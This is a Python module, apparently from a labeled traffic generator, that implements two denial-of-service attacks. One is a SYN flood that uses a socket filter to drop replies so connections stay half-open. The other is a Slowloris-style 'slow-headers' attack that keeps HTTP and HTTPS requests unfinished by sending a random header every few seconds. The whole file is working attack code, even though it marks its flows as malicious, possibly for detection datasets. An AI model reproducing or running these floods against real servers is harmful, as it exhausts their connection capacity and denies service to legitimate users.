"""Families `half-open` (openings never completed) and `slow-headers` (requests never completed)."""

import ctypes
import socket
import struct
import threading
import time

import tls

SO_ATTACH_FILTER = 26
TCP_SYNCNT = 7
LISTEN_S = 9  # as long as the servers repeat their answers: a closed socket would refuse them


def half_open(me, settings: dict) -> None:
    """`openings` SYNs to `ports` of `target`, about `rate` per second; the answers are not heard.

    The kernel sends them, so that they look as any of its SYNs do; a filter on the socket drops what
    comes back, so the handshake never ends. Addresses are the host's own.
    """
    host = me.world.hosts[settings["target"]]
    for address in [host.v4] + ([host.v6] if host.v6 and me.host.v6 else []):
        for port in settings["ports"]:
            me.mark("tcp", "half_open", address, port, "half-open", label="malicious")
    waiting = []
    for _ in range(settings["openings"]):
        address = me.address(host, me.version(host))
        waiting.append(deaf_opening(me, address, me.rng.choice(settings["ports"])))
        if not me.sleep(me.rng.expovariate(settings["rate"])):
            break
    time.sleep(LISTEN_S)
    for sock in waiting:
        sock.close()


def deaf_opening(me, address: str, port: int) -> socket.socket:
    """A socket that sends its SYN and hears nothing."""
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_STREAM)
    drop = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HL", 1, ctypes.addressof(drop)))
    sock.setsockopt(socket.IPPROTO_TCP, TCP_SYNCNT, me.rng.choice((1, 1, 2)))
    sock.bind((me.host.v6 if ":" in address else me.host.v4, me.port("half_open")))
    sock.setblocking(False)
    sock.connect_ex((address, port))
    return sock


def slow_headers(me, settings: dict) -> None:
    """`connections` requests to `site`, `together` at a time, each a header line every few seconds."""
    site = settings["site"]
    for port in (80, 443):
        tls.mark_site(me, "slow_headers", site, "slow-headers", label="malicious", port=port)
    gate = threading.Semaphore(settings["together"])
    threads = []
    for _ in range(settings["connections"]):
        gate.acquire()
        threads.append(threading.Thread(target=dribble, args=(me, site, settings, gate)))
        threads[-1].start()
        if not me.sleep(me.rng.uniform(0.1, 2)):
            break
    for thread in threads:
        thread.join()


def dribble(me, site: str, settings: dict, gate: threading.Semaphore) -> None:
    """Keep one request unfinished until the server has had enough."""
    try:
        port = me.rng.choice((80, 443, 443))
        sock = (
            tls.connect(me, "slow_headers", site)
            if port == 443
            else tls.connect_plain(me, "slow_headers", site, 80)
        )
        with sock:
            sock.sendall(tls.head(me, "GET", f"/s{me.rng.randrange(12)}", site)[:-2])
            until = time.time() + min(settings["seconds"] * me.rng.uniform(0.6, 1.4), me.left())
            while time.time() < until:
                time.sleep(me.rng.uniform(*settings["pause"]))
                sock.sendall(
                    f"X-{me.rng.randrange(9999)}: {me.rng.randbytes(me.rng.randint(2, 20)).hex()}\r\n".encode()
                )
    except OSError:
        pass  # the server hung up
    finally:
        gate.release()
